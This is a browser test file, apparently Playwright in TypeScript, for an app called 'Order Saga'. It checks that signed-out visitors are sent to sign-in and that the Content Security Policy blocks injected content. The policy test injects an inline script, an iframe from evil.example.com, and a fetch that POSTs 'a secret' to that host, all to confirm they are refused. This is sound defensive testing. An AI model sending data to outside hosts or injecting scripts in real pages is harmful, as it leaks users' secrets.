import assert from "node:assert/strict";
import { isAccessible } from "./accessible.ts";
import { setting } from "./setting.ts";
import { shoot, test } from "./stage.ts";

for (const scheme of ["light", "dark"] as const) {
  test(`every address of the app leads whoever is not signed in to the way in, ${scheme}`, async (open) => {
    const { page } = await open({ scheme });
    await page.goto(`${setting().console}/orders/0192f0c1-7b1e-7c3a-9c59-3f1f6d9a0b11`);
    await page.getByRole("button", { name: "Sign in" }).waitFor();
    await isAccessible(page);
    await shoot(page, `signed-out-${scheme}`);
  });
}

test("the browser refuses what the policy does not name", async (open) => {
  const { page, allow } = await open();
  allow(/Content Security Policy|violates the document's/);
  await page.goto(setting().console);
  await page.getByRole("button", { name: "Sign in" }).waitFor();
  const refused = await page.evaluate(async () => {
    const directives: string[] = [];
    const told = new Promise<void>((done) => {
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        directives.push(effectiveDirective);
        if (directives.length === 3) {
          done();
        }
      });
    });
    const script = document.createElement("script");
    script.textContent = "document.title = 'changed'";
    document.body.append(script);
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example.com/";
    document.body.append(frame);
    await fetch("https://evil.example.com/", { method: "POST", body: "a secret" }).catch(() => undefined);
    await told;
    return directives.sort();
  });
  assert.deepEqual(refused, ["connect-src", "frame-src", "script-src-elem"]);
  assert.equal(await page.title(), "Order Saga");
});
